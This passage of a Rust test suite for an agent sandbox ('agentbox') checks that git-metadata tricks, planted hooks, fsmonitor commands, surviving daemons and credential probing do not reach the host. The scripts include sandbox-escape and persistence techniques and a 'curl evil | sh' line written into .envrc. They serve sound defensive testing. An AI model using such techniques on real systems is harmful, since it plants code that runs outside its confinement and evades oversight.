//! The boundary after the run: nothing the box leaves behind runs outside it, and nothing of the
//! person's is lost. Each test attacks what a later, unboxed command reads (git metadata in the
//! workspace, its worktrees, submodules and nested repositories; protected paths; processes that
//! outlive the box) and checks the host afterwards, as root and as an unprivileged user, with
//! the namespace layer and without it (`--simulate-kernel userns=off`).

use crate::common::*;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::Duration;

/// `agentbox run [-q] MODE EXTRA -- sh -c SCRIPT` in `cwd` with the fixture's environment.
fn boxed_in(f: &Fixture, cwd: &Path, mode: &[&str], extra: &[&str], script: &str) -> Output {
    let mut args: Vec<&str> = vec!["run"];
    args.extend_from_slice(mode);
    args.extend_from_slice(extra);
    args.extend(["--", "sh", "-c", script]);
    let mut c = f.command(&args);
    c.current_dir(cwd)
        .env("GIT_AUTHOR_NAME", "Box")
        .env("GIT_AUTHOR_EMAIL", "box@example.invalid")
        .env("GIT_COMMITTER_NAME", "Box")
        .env("GIT_COMMITTER_EMAIL", "box@example.invalid")
        .stdin(Stdio::null());
    let out = c.output().expect("run agentbox");
    assert_no_secret(&out);
    out
}

fn boxed(f: &Fixture, mode: &[&str], script: &str) -> Output {
    boxed_in(f, &f.ws, mode, &[], script)
}

fn ctx(who: As, mode: &str, what: &str) -> String {
    format!("[{who:?}/{mode}] {what}")
}

/// A marker outside the workspace that a planted command would create on the host.
fn marker(f: &Fixture, name: &str) -> PathBuf {
    f.dir.path().join(format!("PWNED-{name}"))
}

/// A config line that runs `touch MARKER` whenever git looks at the worktree.
fn fsmonitor(m: &Path) -> String {
    format!("[core]\n\tfsmonitor = \"touch {}; false\"\n", m.display())
}

/// After the run, the person's plain git commands in `dir` must not run anything planted.
fn assert_nothing_runs(f: &Fixture, dir: &Path, m: &Path, ctx: &str, out: &Output) {
    let _ = host_git(f, dir, &["status", "--porcelain"]);
    let _ = host_git(f, dir, &["log", "-1", "--format=%s"]);
    let _ = host_git(f, dir, &["diff", "--stat"]);
    check(
        !m.exists(),
        &format!("{ctx}: a planted command ran on the host"),
        out,
    );
}

/// Every file below `dir` whose content is `needle`.
fn files_with(dir: &Path, needle: &str) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(p);
            } else if std::fs::read_to_string(&p).is_ok_and(|s| s.contains(needle)) {
                out.push(p);
            }
        }
    }
    out
}

// -------------------------------------------------------------------------------------------
// 1. `.git/commondir` redirect
// -------------------------------------------------------------------------------------------

#[test]
fn commondir_redirect_does_not_reach_the_host() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let m = marker(&f, "commondir");
            let script = format!(
                "mkdir -p src/evil && cp -r .git/objects .git/refs .git/HEAD src/evil/ && printf '{}' > src/evil/config && echo ../src/evil > .git/commondir && git status >/dev/null 2>&1; echo planted",
                fsmonitor(&m).replace('\n', "\\n").replace('\t', "\\t")
            );
            let out = boxed(&f, flags, &script);
            let c = ctx(who, mode, "commondir");
            check(stdout(&out).contains("planted"), &c, &out);
            check(
                !f.ws.join(".git/commondir").exists(),
                &format!("{c}: .git/commondir left on the host"),
                &out,
            );
            assert_nothing_runs(&f, &f.ws, &m, &c, &out);
            // The planted git directory in src/ was neutralised too.
            assert_nothing_runs(
                &f,
                &f.ws.join("src/evil"),
                &m,
                &format!("{c} (src/evil)"),
                &out,
            );
            // Nothing deleted: the planted files are in the quarantine named on stderr.
            let q = quarantine_named(&stderr(&out));
            check(q.is_some(), &format!("{c}: no quarantine named"), &out);
            check(
                !files_with(q.as_ref().unwrap(), "../src/evil").is_empty(),
                &format!("{c}: commondir not in the quarantine"),
                &out,
            );
        }
    }
}

// -------------------------------------------------------------------------------------------
// 2. Linked worktree: its `.git` file and the common directory it points to
// -------------------------------------------------------------------------------------------

/// A linked worktree of the fixture's repository, at `root/work/wt`, with a second one at
/// `root/work/other`.
fn worktree(f: &Fixture) -> PathBuf {
    git_ok(
        f,
        &f.ws,
        &["worktree", "add", "-q", "-b", "wt-branch", "../wt"],
    );
    git_ok(
        f,
        &f.ws,
        &["worktree", "add", "-q", "-b", "other-branch", "../other"],
    );
    f.ws.parent().unwrap().join("wt")
}

#[test]
fn linked_worktree_cannot_be_redirected() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let wt = worktree(&f);
            let m = marker(&f, "worktree");
            let common = f.ws.join(".git");
            let admin = common.join("worktrees/wt");
            let fsm = fsmonitor(&m).replace('\n', "\\n").replace('\t', "\\t");
            let before_file = std::fs::read(wt.join(".git")).unwrap();
            let before_other = std::fs::read(common.join("worktrees/other/gitdir")).unwrap();
            let script = format!(
                "mkdir -p planted && cp -r {c}/objects {c}/refs {c}/HEAD planted/ && printf '{fsm}' > planted/config; \
                 echo \"gitdir: $PWD/planted\" > .git; \
                 echo ../../../work/repo/planted > {a}/commondir; \
                 printf '{fsm}' > {a}/config.worktree; \
                 echo {c}/../../evil > {c}/commondir; \
                 echo /tmp/x/.git > {c}/worktrees/other/gitdir; \
                 mkdir -p {c}/info && echo '* filter=evil' > {c}/info/attributes; \
                 printf '{fsm}' >> {c}/config; echo planted",
                c = common.display(),
                a = admin.display(),
            );
            let out = boxed_in(&f, &wt, flags, &[], &script);
            let c = ctx(who, mode, "linked worktree");
            check(stdout(&out).contains("planted"), &c, &out);
            check(
                std::fs::read(wt.join(".git")).unwrap() == before_file,
                &format!("{c}: the worktree's .git file changed"),
                &out,
            );
            check(
                !admin.join("commondir").exists()
                    || std::fs::read_to_string(admin.join("commondir"))
                        .unwrap()
                        .trim()
                        == "../..",
                &format!("{c}: admin commondir"),
                &out,
            );
            check(
                !admin.join("config.worktree").exists(),
                &format!("{c}: config.worktree"),
                &out,
            );
            check(
                !common.join("commondir").exists(),
                &format!("{c}: common commondir"),
                &out,
            );
            check(
                std::fs::read(common.join("worktrees/other/gitdir")).unwrap() == before_other,
                &format!("{c}: another worktree's gitdir changed"),
                &out,
            );
            check(
                !common.join("info/attributes").exists(),
                &format!("{c}: info/attributes"),
                &out,
            );
            assert_nothing_runs(&f, &wt, &m, &c, &out);
            assert_nothing_runs(&f, &f.ws, &m, &c, &out);
            assert_nothing_runs(&f, &f.ws.parent().unwrap().join("other"), &m, &c, &out);
        }
    }
}

// -------------------------------------------------------------------------------------------
// 3. Submodules: `.git/modules/<name>/config` and hooks
// -------------------------------------------------------------------------------------------

/// A fixture whose repository has a submodule `lib` cloned from a local repository.
fn with_submodule(who: As) -> Fixture {
    let f = Fixture::new(As::Me);
    let origin = f.dir.path().join("lib-origin");
    std::fs::create_dir_all(&origin).unwrap();
    git_ok(&f, &origin, &["init", "-q", "-b", "main"]);
    std::fs::write(origin.join("lib.txt"), "lib\n").unwrap();
    git_ok(&f, &origin, &["add", "lib.txt"]);
    git_ok(&f, &origin, &["commit", "-q", "-m", "lib"]);
    git_ok(
        &f,
        &f.ws,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            origin.to_str().unwrap(),
            "lib",
        ],
    );
    git_ok(&f, &f.ws, &["commit", "-q", "-m", "add lib"]);
    chown_to(f.dir.path(), who);
    Fixture {
        dir: f.dir,
        home: f.home,
        ws: f.ws,
        owner: who,
    }
}

#[test]
fn submodule_config_and_hooks_cannot_be_planted() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = with_submodule(who);
            let m = marker(&f, "submodule");
            let mg = f.ws.join(".git/modules/lib");
            let before = std::fs::read(mg.join("config")).unwrap();
            let script = format!(
                "git -C lib config core.fsmonitor 'touch {m}; false'; \
                 printf '#!/bin/sh\\ntouch {m}\\n' > .git/modules/lib/hooks/post-checkout; chmod +x .git/modules/lib/hooks/post-checkout; \
                 echo planted",
                m = m.display()
            );
            let out = boxed(&f, flags, &script);
            let c = ctx(who, mode, "submodule");
            check(stdout(&out).contains("planted"), &c, &out);
            check(
                std::fs::read(mg.join("config")).unwrap() == before,
                &format!("{c}: the submodule's config changed on the host"),
                &out,
            );
            check(
                !mg.join("hooks/post-checkout").exists(),
                &format!("{c}: a submodule hook was planted"),
                &out,
            );
            assert_nothing_runs(&f, &f.ws, &m, &c, &out);
            let _ = host_git(&f, &f.ws, &["submodule", "foreach", "true"]);
            assert_nothing_runs(&f, &f.ws.join("lib"), &m, &c, &out);
        }
    }
}

// -------------------------------------------------------------------------------------------
// 4. Repositories created during the run, hooksPath into the workspace, alternates, a renamed .git
// -------------------------------------------------------------------------------------------

#[test]
fn repositories_created_during_the_run_are_neutralised() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let m = marker(&f, "nested");
            let script = format!(
                "mkdir -p src/sub && git -C src/sub init -q && git -C src/sub config core.fsmonitor 'touch {m}; false' && \
                 printf '#!/bin/sh\\ntouch {m}\\n' > src/sub/.git/hooks/pre-commit && chmod +x src/sub/.git/hooks/pre-commit && \
                 git init -q --bare src/b.git && git -C src/b.git config core.pager 'touch {m}; cat' && \
                 git -C src/b.git config alias.st '!touch {m}' && echo planted",
                m = m.display()
            );
            let out = boxed(&f, flags, &script);
            let c = ctx(who, mode, "nested repositories");
            check(stdout(&out).contains("planted"), &c, &out);
            assert_nothing_runs(&f, &f.ws.join("src/sub"), &m, &c, &out);
            let _ = host_git(
                &f,
                &f.ws.join("src/sub"),
                &["commit", "-q", "--allow-empty", "-m", "x"],
            );
            let _ = host_git(&f, &f.ws.join("src/b.git"), &["st"]);
            let _ = host_git(&f, &f.ws.join("src/b.git"), &["-p", "log"]);
            check(!m.exists(), &format!("{c}: a planted command ran"), &out);
            // The rest of the new repositories is left alone (a clone or an init is fine).
            check(
                f.ws.join("src/sub/.git/HEAD").exists(),
                &format!("{c}: the new repository is gone"),
                &out,
            );
        }
    }
}

#[test]
fn hooks_path_into_the_workspace_is_protected() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(As::Me);
            write_exec(&f.ws.join(".githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
            git_ok(&f, &f.ws, &["config", "core.hooksPath", ".githooks"]);
            chown_to(f.dir.path(), who);
            let f = Fixture { owner: who, ..f };
            let m = marker(&f, "hookspath");
            let script = format!(
                "printf '#!/bin/sh\\ntouch {m}\\n' > .githooks/pre-commit; printf '#!/bin/sh\\ntouch {m}\\n' > .githooks/post-commit; chmod +x .githooks/*; echo planted",
                m = m.display()
            );
            let out = boxed(&f, flags, &script);
            let c = ctx(who, mode, "core.hooksPath");
            check(stdout(&out).contains("planted"), &c, &out);
            let _ = host_git(&f, &f.ws, &["commit", "-q", "--allow-empty", "-m", "after"]);
            check(
                !m.exists(),
                &format!("{c}: a hook in core.hooksPath ran"),
                &out,
            );
        }
    }
}

#[test]
fn object_alternates_are_removed() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let out = boxed(&f, flags, "mkdir -p .git/objects/info && echo /var/tmp/elsewhere > .git/objects/info/alternates; echo planted");
            let c = ctx(who, mode, "alternates");
            check(stdout(&out).contains("planted"), &c, &out);
            check(
                !f.ws.join(".git/objects/info/alternates").exists(),
                &format!("{c}: alternates left"),
                &out,
            );
        }
    }
}

#[test]
fn renamed_git_dir_is_put_back() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let m = marker(&f, "rename");
            let head = git_ok(&f, &f.ws, &["rev-parse", "HEAD"]);
            let script = format!(
                "mv .git .git-orig; cp -a .git-orig .git; printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; printf '{fsm}' >> .git/config; echo done",
                m = m.display(),
                fsm = fsmonitor(&m).replace('\n', "\\n").replace('\t', "\\t")
            );
            let ino = |p: &Path| {
                std::os::unix::fs::MetadataExt::ino(&std::fs::symlink_metadata(p).unwrap())
            };
            let before = ino(&f.ws.join(".git"));
            let out = boxed(&f, flags, &script);
            let c = ctx(who, mode, "renamed .git");
            // The person's own .git is back in place, and the box's copy is not in the workspace.
            check(
                ino(&f.ws.join(".git")) == before,
                &format!("{c}: .git is not the person's"),
                &out,
            );
            check(
                !f.ws.join(".git-orig").exists(),
                &format!("{c}: the original left aside"),
                &out,
            );
            let _ = host_git(&f, &f.ws, &["commit", "-q", "--allow-empty", "-m", "after"]);
            assert_nothing_runs(&f, &f.ws, &m, &c, &out);
            check(
                git_ok(&f, &f.ws, &["rev-parse", "HEAD~1"]) == head,
                &format!("{c}: history lost"),
                &out,
            );
        }
    }
}

// -------------------------------------------------------------------------------------------
// 5. The post-run guard keeps the person's work: a file the person's editor writes on the host
//    during the run, at a protected path, is intact afterwards (in the quarantine named)
// -------------------------------------------------------------------------------------------

#[test]
fn a_file_the_person_writes_during_the_run_is_not_lost() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let settings = f.ws.join(".vscode/settings.json");
            let go = f.dir.path().join("go");
            let out = std::thread::scope(|s| {
                let h = s.spawn(|| {
                    boxed(
                        &f,
                        flags,
                        &format!(
                            "while [ ! -e {} ]; do sleep 0.05; done; sleep 0.3; echo ran",
                            go.display()
                        ),
                    )
                });
                std::thread::sleep(Duration::from_millis(200));
                // The person's editor, on the host, while the agent runs.
                std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
                std::fs::write(&settings, "{\"editor.fontSize\": 14}\n").unwrap();
                chown_to(&f.ws.join(".vscode"), who);
                std::fs::write(&go, "").unwrap();
                h.join().unwrap()
            });
            let c = ctx(who, mode, "person's file during the run");
            check(stdout(&out).contains("ran"), &c, &out);
            let kept = settings.exists()
                || quarantine_named(&stderr(&out))
                    .is_some_and(|q| !files_with(&q, "editor.fontSize").is_empty());
            check(kept, &format!("{c}: the person's file is gone"), &out);
            check(
                !stderr(&out).contains("created inside the box"),
                &format!("{c}: claims the box wrote it"),
                &out,
            );
            check(
                settings.exists() || stderr(&out).contains("appeared during the run"),
                &format!("{c}: no honest cause"),
                &out,
            );
        }
    }
}

// -------------------------------------------------------------------------------------------
// 6. `kill -9` of agentbox: the next agentbox command in the workspace finishes the restore
// -------------------------------------------------------------------------------------------

fn spawn_boxed(f: &Fixture, mode: &[&str], script: &str) -> std::process::Child {
    let mut args: Vec<&str> = vec!["run", "-q"];
    args.extend_from_slice(mode);
    args.extend(["--", "sh", "-c", script]);
    let mut c = f.command(&args);
    c.stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    c.spawn().unwrap()
}

/// `/tmp/agentbox-<pid>-*` directories of `pid`.
fn host_tmp_of(pid: u32) -> Vec<PathBuf> {
    std::fs::read_dir("/tmp")
        .map(|rd| {
            rd.flatten()
                .map(|e| e.path())
                .filter(|p| {
                    p.file_name().is_some_and(|n| {
                        n.to_string_lossy().starts_with(&format!("agentbox-{pid}-"))
                    })
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn kill_9_then_the_next_command_finishes_the_restore() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            let planted = f.ws.join(".envrc");
            let mut child = spawn_boxed(
                &f,
                flags,
                "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; exec sleep 30",
            );
            let pid = child.id();
            let c = ctx(who, mode, "kill -9");
            assert!(
                wait_for(&f.ws.join(".vscode/tasks.json"), 10),
                "{c}: the box did not start"
            );
            // SAFETY: signalling our own child.
            unsafe { libc::kill(pid as i32, libc::SIGKILL) };
            let _ = child.wait();
            assert!(
                planted.exists(),
                "{c}: nothing left to finish (the test proves nothing)"
            );
            let out = boxed(&f, &[], "echo next");
            check(stdout(&out).contains("next"), &c, &out);
            check(!planted.exists(), &format!("{c}: .envrc left behind"), &out);
            check(
                !f.ws.join(".vscode").exists(),
                &format!("{c}: .vscode left behind"),
                &out,
            );
            check(
                stderr(&out).contains("interrupted run"),
                &format!("{c}: not said"),
                &out,
            );
            check(
                host_tmp_of(pid).is_empty(),
                &format!("{c}: /tmp/agentbox-{pid}-* left behind"),
                &out,
            );
        }
    }
}

#[test]
fn kill_9_leaves_no_daemon_where_a_cgroup_can_be_made() {
    // Root can make a cgroup (so can a person with a delegated one); without one the limit is
    // stated in the README, and a normal end of run still kills every daemon (see below).
    // Host-dependent: whether the host mounts a cgroup v2 hierarchy is its init system's choice
    // (a cgroup v1-only host has none), not something CI installs. Root is CI's own (`require`).
    if !require("root", is_root())
        || !require_host("a cgroup v2 hierarchy", super_cgroup().is_some())
    {
        return;
    }
    let f = Fixture::new(As::Me);
    let late = f.ws.join("late");
    let mut child = spawn_boxed(
        &f,
        &["--simulate-kernel", "userns=off", "--no-report-denials"],
        &format!(
            "setsid sh -c 'sleep 1.5; echo x > {}' </dev/null >/dev/null 2>&1 & echo started > started; exec sleep 30",
            late.display()
        ),
    );
    assert!(wait_for(&f.ws.join("started"), 10));
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
    let _ = child.wait();
    let out = boxed(&f, &[], "true");
    std::thread::sleep(Duration::from_millis(2500));
    check(
        !late.exists(),
        "a daemon of the box outlived a killed agentbox",
        &out,
    );
}

/// The cgroup v2 mount point, if any.
fn super_cgroup() -> Option<PathBuf> {
    let mi = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
    mi.lines().find_map(|l| {
        let (pre, post) = l.split_once(" - ")?;
        (post.split_whitespace().next()? == "cgroup2")
            .then(|| pre.split_whitespace().nth(4).map(PathBuf::from))?
    })
}

// -------------------------------------------------------------------------------------------
// 8. Without namespaces: daemons and untraced children die before the restore
// -------------------------------------------------------------------------------------------

#[test]
fn fallback_daemons_and_untraced_children_die_before_the_restore() {
    let py = python();
    for who in who() {
        for extra in [&["--no-report-denials"][..], &[][..]] {
            let f = Fixture::new(who);
            let hook = f.ws.join(".git/hooks/pre-commit");
            let config = f.ws.join(".git/config");
            let before = std::fs::read(&config).unwrap();
            // A daemon (setsid + double fork) that plants a hook after the run, and a
            // clone(CLONE_UNTRACED) child that keeps a descriptor on .git/config opened before
            // the restore and writes through it afterwards.
            let script = format!(
                r##"(setsid sh -c 'sleep 1; printf "#!/bin/sh\ntouch /tmp/x\n" > {hook}; chmod +x {hook}' </dev/null >/dev/null 2>&1 &) ;
{py} - <<'PY'
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open('.git/config', os.O_WRONLY | os.O_APPEND)
CLONE_UNTRACED = 0x00800000
SIGCHLD = 17
pid = libc.syscall(56, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0)
if pid == 0:
    os.setsid()
    time.sleep(1.2)
    os.write(fd, b'[core]\n\tfsmonitor = "touch /tmp/y; false"\n')
    os._exit(0)
print('forked', pid > 0)
PY
echo done"##,
                hook = hook.display()
            );
            let mut flags: Vec<&str> = vec!["--simulate-kernel", "userns=off"];
            flags.extend_from_slice(extra);
            let out = boxed(&f, &flags, &script);
            let c = format!("[{who:?}/{extra:?}] fallback survivors");
            check(stdout(&out).contains("done"), &c, &out);
            std::thread::sleep(Duration::from_millis(2000));
            check(
                !hook.exists(),
                &format!("{c}: a daemon planted a hook after the run"),
                &out,
            );
            check(
                std::fs::read(&config).unwrap() == before,
                &format!("{c}: .git/config written after the restore"),
                &out,
            );
        }
    }
}

// -------------------------------------------------------------------------------------------
// 7. Signals during start-up, panics, closed pipes: nothing makes agentbox skip the restore
// -------------------------------------------------------------------------------------------

#[test]
fn a_sigterm_during_start_up_reaches_the_agent() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            // agentbox blocks reading its profile from a fifo: it is in its start-up, before any
            // box exists, when the signal arrives.
            let fifo = f.dir.path().join("slow-profile.yaml");
            let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
            // SAFETY: a valid path.
            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o666) }, 0);
            chown_to(&fifo, who);
            let mut args: Vec<&str> = vec!["run", "-q", "-p", fifo.to_str().unwrap()];
            args.extend_from_slice(flags);
            args.extend([
                "--",
                "sh",
                "-c",
                "trap 'echo got-TERM; exit 7' TERM; sleep 10 & wait; echo no-signal",
            ]);
            let mut cmd = f.command(&args);
            cmd.stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped());
            let mut child = cmd.spawn().unwrap();
            // Opening for writing succeeds once agentbox has opened it for reading; polled
            // (ENXIO until then) so an agentbox that ended without reading fails the test.
            let mut w = loop {
                use std::os::unix::fs::OpenOptionsExt;
                match std::fs::OpenOptions::new()
                    .write(true)
                    .custom_flags(libc::O_NONBLOCK)
                    .open(&fifo)
                {
                    Ok(w) => break w,
                    Err(e) if e.raw_os_error() == Some(libc::ENXIO) => {}
                    Err(e) => panic!("open the fifo: {e}"),
                }
                if child.try_wait().unwrap().is_some() {
                    let out = child.wait_with_output().unwrap();
                    panic!(
                        "agentbox ended before reading its profile: {}",
                        stderr(&out)
                    );
                }
                std::thread::sleep(std::time::Duration::from_millis(5));
            };
            // SAFETY: signalling our own child.
            unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
            std::io::Write::write_all(&mut w, b"extends: default\n").unwrap();
            drop(w);
            let out = child.wait_with_output().unwrap();
            assert_no_secret(&out);
            let c = ctx(who, mode, "SIGTERM during start-up");
            // The agent gets it as soon as it exists: by its trap if it had time to set one,
            // else by dying of it. Either way agentbox itself was not killed (its status is an
            // exit code, 7 or 128+15) and the run was not left half done.
            let code = out.status.code();
            check(
                code == Some(7) || code == Some(143),
                &format!("{c}: agentbox did not hand the signal to the agent ({code:?})"),
                &out,
            );
            check(
                !stdout(&out).contains("no-signal"),
                &format!("{c}: the signal was dropped"),
                &out,
            );
        }
    }
}

/// agentbox with a failpoint set (debug builds panic there).
fn boxed_failing(f: &Fixture, mode: &[&str], extra: &[&str], point: &str, script: &str) -> Output {
    let mut args: Vec<&str> = vec!["run", "-q"];
    args.extend_from_slice(mode);
    args.extend_from_slice(extra);
    args.extend(["--", "sh", "-c", script]);
    let mut c = f.command(&args);
    c.env("AGENTBOX_FAILPOINT", point).stdin(Stdio::null());
    let out = c.output().unwrap();
    assert_no_secret(&out);
    out
}

#[test]
fn a_panic_in_a_proxy_thread_or_the_supervisor_still_restores() {
    let (port, _hits) = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for s in l.incoming().take(50) {
                drop(s);
            }
        });
        (port, ())
    };
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(who);
            // A proxy thread panics on the box's request; the box then plants .envrc and exits 3.
            let host = format!("127.0.0.1:{port}");
            let out = boxed_failing(
                &f,
                flags,
                &["--allow-host", &host],
                "proxy",
                &format!("curl -s -m 3 http://{host}/ >/dev/null 2>&1; echo x > .envrc; exit 3"),
            );
            let c = ctx(who, mode, "panic in a proxy thread");
            check(
                out.status.code() == Some(3),
                &format!("{c}: agentbox died with the thread"),
                &out,
            );
            check(
                !f.ws.join(".envrc").exists(),
                &format!("{c}: not restored"),
                &out,
            );
            // The supervisor's own thread panics after the run: the restore still happens.
            let f = Fixture::new(who);
            let out = boxed_failing(&f, flags, &[], "after-launch", "echo x > .envrc");
            let c = ctx(who, mode, "panic in the supervisor");
            check(
                out.status.code() == Some(125),
                &format!("{c}: exit status"),
                &out,
            );
            check(
                !f.ws.join(".envrc").exists(),
                &format!("{c}: not restored"),
                &out,
            );
            check(stderr(&out).contains("internal error"), &c, &out);
        }
    }
}

#[test]
fn closed_pipes_do_not_stop_agentbox() {
    for who in who() {
        let f = Fixture::new(who);
        // stdout closed early: the plan printer meets EPIPE.
        let mut cmd = f.command(&["run", "--dry-run", "--", "sh"]);
        cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let code = out.status.code();
        check(
            matches!(code, Some(0) | Some(125)),
            &format!("[{who:?}] dry-run into a closed pipe: status {code:?}"),
            &out,
        );
        check(
            !stderr(&out).contains("panicked"),
            &format!("[{who:?}] dry-run panicked"),
            &out,
        );
        // stderr a broken pipe: the status line and summary meet EPIPE; the restore happens.
        let (r, w) = {
            let mut fds = [0i32; 2];
            // SAFETY: a valid two-element array.
            assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
            // SAFETY: fresh descriptors.
            unsafe {
                (
                    <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fds[0]),
                    <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fds[1]),
                )
            }
        };
        drop(r);
        let mut cmd = f.command(&["run", "--", "sh", "-c", "echo x > .envrc; exit 4"]);
        cmd.stdout(Stdio::null()).stderr(Stdio::from(w));
        let st = cmd.status().unwrap();
        assert_eq!(
            st.code(),
            Some(4),
            "[{who:?}] agentbox with a broken stderr: {st:?}"
        );
        assert!(
            !f.ws.join(".envrc").exists(),
            "[{who:?}] not restored with a broken stderr"
        );
    }
}

// -------------------------------------------------------------------------------------------
// 10. `$HOME` (or `/`, a system directory) as the default workspace is refused
// -------------------------------------------------------------------------------------------

#[test]
fn home_root_and_system_dirs_are_not_default_workspaces() {
    for who in who() {
        let f = Fixture::new(who);
        for dir in [
            f.home.clone(),
            PathBuf::from("/"),
            PathBuf::from("/usr"),
            PathBuf::from("/tmp"),
        ] {
            let mut cmd = f.command(&["run", "--", "true"]);
            cmd.current_dir(&dir).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            check(
                out.status.code() == Some(125),
                &format!("[{who:?}] {} accepted as the workspace", dir.display()),
                &out,
            );
            check(
                stderr(&out).contains("-w DIR"),
                &format!("[{who:?}] no fix named"),
                &out,
            );
        }
        // Named on purpose, it runs.
        let mut cmd = f.command(&["run", "-q", "-w", f.home.to_str().unwrap(), "--", "true"]);
        cmd.current_dir(&f.home).stdin(Stdio::null());
        let out = cmd.output().unwrap();
        check(
            out.status.success(),
            &format!("[{who:?}] -w ~ refused"),
            &out,
        );
        // A directory that is not a repository runs, and the status line says so.
        let plain = f.dir.path().join("plain");
        std::fs::create_dir_all(&plain).unwrap();
        chown_to(&plain, who);
        let mut cmd = f.command(&["run", "--", "true"]);
        cmd.current_dir(&plain).stdin(Stdio::null());
        let out = cmd.output().unwrap();
        check(
            out.status.success() && stderr(&out).contains("not a git repository"),
            &format!("[{who:?}] plain directory"),
            &out,
        );
    }
}

// -------------------------------------------------------------------------------------------
// 12. Hidden means invisible: credentials under $HOME cannot be listed, stat-ed or watched
// -------------------------------------------------------------------------------------------

#[test]
fn hidden_credentials_cannot_be_listed_stated_or_watched() {
    let body = r#"
import ctypes, os, json
libc = ctypes.CDLL(None, use_errno=True)
home = os.environ['HOME']
out = {}
def tryit(k, fn):
    try:
        fn(); out[k] = 'ok'
    except OSError as e:
        out[k] = os.strerror(e.errno)
tryit('stat_ssh', lambda: os.stat(home + '/.ssh'))
tryit('stat_key', lambda: os.stat(home + '/.ssh/id_ed25519'))
tryit('stat_aws', lambda: os.stat(home + '/.aws/credentials'))
try:
    out['listing'] = sorted(os.listdir(home))
except OSError as e:
    out['listing'] = os.strerror(e.errno)
fd = libc.inotify_init1(0)
w = libc.inotify_add_watch(fd, (home + '/.ssh').encode(), 0xfff)
out['inotify_ssh'] = 'ok' if w >= 0 else os.strerror(ctypes.get_errno())
print(json.dumps(out))
"#;
    for who in who() {
        let f = Fixture::new(who);
        let out = boxed(&f, &[], &format!("python3 - <<'PY'\n{body}\nPY"));
        let c = format!("[{who:?}] masked home");
        let v = stdout(&out);
        for k in ["stat_ssh", "stat_key", "stat_aws", "inotify_ssh"] {
            check(
                v.contains(&format!("\"{k}\": \"No such file or directory\"")),
                &format!("{c}: {k}"),
                &out,
            );
        }
        check(
            !v.contains(".ssh") && !v.contains(".aws"),
            &format!("{c}: credential names listed"),
            &out,
        );
        // Without namespaces Landlock cannot mediate stat or inotify: the plan says so.
        let out = f.agentbox(&[
            "run",
            "--dry-run",
            "--simulate-kernel",
            "userns=off",
            "--",
            "true",
        ]);
        check(
            stdout(&out).contains("can still be stat-ed and watched"),
            &format!("{c}: the fallback's limit is not stated"),
            &out,
        );
    }
}

// -------------------------------------------------------------------------------------------
// Git keeps working inside the box: plain repository, linked worktree, submodules
// -------------------------------------------------------------------------------------------

#[test]
fn git_works_in_a_plain_repository() {
    for who in who() {
        for (mode, flags) in MODES {
            let f = Fixture::new(As::Me);
            // A remote outside the workspace, writable for this run, for push -u.
            let remote = f.dir.path().join("remote.git");
            git_ok(
                &f,
                f.dir.path(),
                &["init", "-q", "--bare", remote.to_str().unwrap()],
            );
            git_ok(
                &f,
                &f.ws,
                &["remote", "add", "origin", remote.to_str().unwrap()],
            );
            std::fs::write(f.ws.join(".gitignore"), ".worktrees/\n").unwrap();
            git_ok(&f, &f.ws, &["add", ".gitignore"]);
            git_ok(&f, &f.ws, &["commit", "-q", "-m", "ignore worktrees"]);
            chown_to(f.dir.path(), who);
            let f = Fixture { owner: who, ..f };
            let script = r#"set -e
echo one > a.txt; git add a.txt; git commit -q -m one
echo wip > b.txt; git add b.txt; git stash -q; git stash pop -q; git commit -q -m two
git checkout -q -b topic; echo t > t.txt; git add t.txt; git commit -q -m topic
git checkout -q feature/test; echo m > m.txt; git add m.txt; git commit -q -m main-side
git merge -q --no-edit topic
git checkout -q -b rebased topic; git rebase -q feature/test
git branch -m rebased renamed
git worktree add -q .worktrees/side -b side
git push -q -u origin renamed 2>/dev/null
git status --porcelain
echo ok"#;
            let extra = ["--allow-write", remote.to_str().unwrap()];
